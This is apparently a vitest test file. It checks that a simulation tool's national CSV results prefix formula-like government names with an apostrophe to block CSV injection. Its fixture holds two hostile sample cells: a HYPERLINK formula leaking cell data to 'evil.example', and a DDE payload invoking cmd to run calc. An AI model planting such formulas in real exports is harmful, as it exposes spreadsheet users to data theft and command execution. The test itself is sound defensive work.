/**
 * Government names are the scenario's free text, and the national CSVs are
 * the only result files that hold free text (every other text cell is an
 * id, which starts with a letter or digit). A name a spreadsheet would read
 * as a formula (`=HYPERLINK(...)`, `+...`, `-...`, `@...`, a tab or carriage
 * return first: OWASP, "CSV Injection") is written with one `'` in front,
 * and read back without it: the report shows the name as the scenario gives
 * it. Ordinary names, ids and numbers keep their bytes
 * (docs/RELIABILITY.md, "Output shown to people").
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { parse, stringify } from 'yaml';
import { parse as parseCsvSync } from 'csv-parse/sync';
import { ROOT, assertBuilt, tempDir } from '../support/cli.js';
import { executeNationalRun } from '../../src/jobs/national.js';
import { readNationalFolder } from '../../src/store/national-tables.js';
import { protectText, unprotectText } from '../../src/store/csv-format.js';
import { escapeMarkdownText } from '../../src/report/markdown.js';

beforeAll(() => assertBuilt());

const FIXTURE = join(ROOT, 'tests', 'national', 'fixtures', 'small-national.yaml');

const NAMES: Record<string, string> = {
  'prov-a': '=HYPERLINK("http://evil.example/?d="&A1,"Provinsi A")',
  'kota-a': '@SUM(1+1)*cmd|\' /C calc\'!A0',
  'kab-b': "'=already quoted",
  // An ordinary name, and one with an apostrophe first that starts no formula: both as given.
  'kota-c': "'s-Kota C, \"Barat\"",
};

/** Cells a spreadsheet reads as a formula. */
const FORMULA = /^[=+\-@\t\r]/;

describe('protectText', () => {
  it('puts one apostrophe before a formula start, and takes it off again; other text and its bytes are left alone', () => {
    for (const s of ['=1+1', '+62 21', '-x', '@SUM(A1)', '\t=1', '\r=1', "'=1", "''+1"]) {
      expect(protectText(s)).toBe(`'${s}`);
      expect(FORMULA.test(protectText(s))).toBe(false);
      expect(unprotectText(protectText(s))).toBe(s);
    }
    for (const s of ['Kota Bekasi', "'s-Hertogenbosch", "'", '', 'a=1', ' =1', 'Kabupaten Kepulauan Seribu']) {
      expect(protectText(s)).toBe(s);
      expect(unprotectText(s)).toBe(s);
    }
  });
});

describe('a national run with names a spreadsheet would read as formulas', () => {
  let dir: string;
  beforeAll(async () => {
    const doc = parse(readFileSync(FIXTURE, 'utf8')) as Record<string, any>;
    for (const g of doc['governments']) g['name'] = NAMES[g['id']];
    const file = join(tempDir('difusi-nformula-'), 'formula.yaml');
    writeFileSync(file, stringify(doc));
    dir = (await executeNationalRun({ file, outRoot: tempDir('difusi-nformula-out-'), workers: 1, replications: 2, command: 'test', charts: true, report: 'en' })).dir;
  });

  it('writes no cell that starts a formula: those names get one apostrophe in front, the others are as given', () => {
    for (const file of ['government_outcomes.csv', 'government_summary.csv', 'group_summary.csv']) {
      const rows = parseCsvSync(readFileSync(join(dir, file), 'utf8'), { columns: true }) as Record<string, string>[];
      expect(rows.length).toBeGreaterThan(0);
      for (const row of rows) for (const [column, cell] of Object.entries(row)) expect(cell, `${file} ${column}`).not.toMatch(FORMULA);
      if (file === 'group_summary.csv') {
        expect(rows.find((r) => r['group'] === 'prov-a')!['province_name']).toBe(`'${NAMES['prov-a']}`);
        continue;
      }
      for (const row of rows) {
        const given = NAMES[row['government']!]!;
        expect(row['name']).toBe(row['government'] === 'kota-c' ? given : `'${given}`);
        if (row['province'] === 'prov-a') expect(row['province_name']).toBe(`'${NAMES['prov-a']}`);
      }
    }
  });

  it('reads the names back as the scenario gives them, and the report shows them so', async () => {
    const read = await readNationalFolder(dir);
    expect(read.governmentSummary.map((g) => g.name)).toEqual(['prov-a', 'kota-a', 'kab-b', 'kota-c'].map((id) => NAMES[id]));
    expect(read.governmentOutcomes.filter((g) => g.province === 'prov-a').every((g) => g.province_name === NAMES['prov-a'])).toBe(true);
    expect(read.groupSummary.find((g) => g.group === 'prov-a')!.province_name).toBe(NAMES['prov-a']);
    const md = readFileSync(join(dir, 'report.md'), 'utf8');
    expect(md).toContain(escapeMarkdownText(NAMES['kab-b']!));
    expect(md).not.toContain(escapeMarkdownText(`'${NAMES['kab-b']!}`));
  });
});
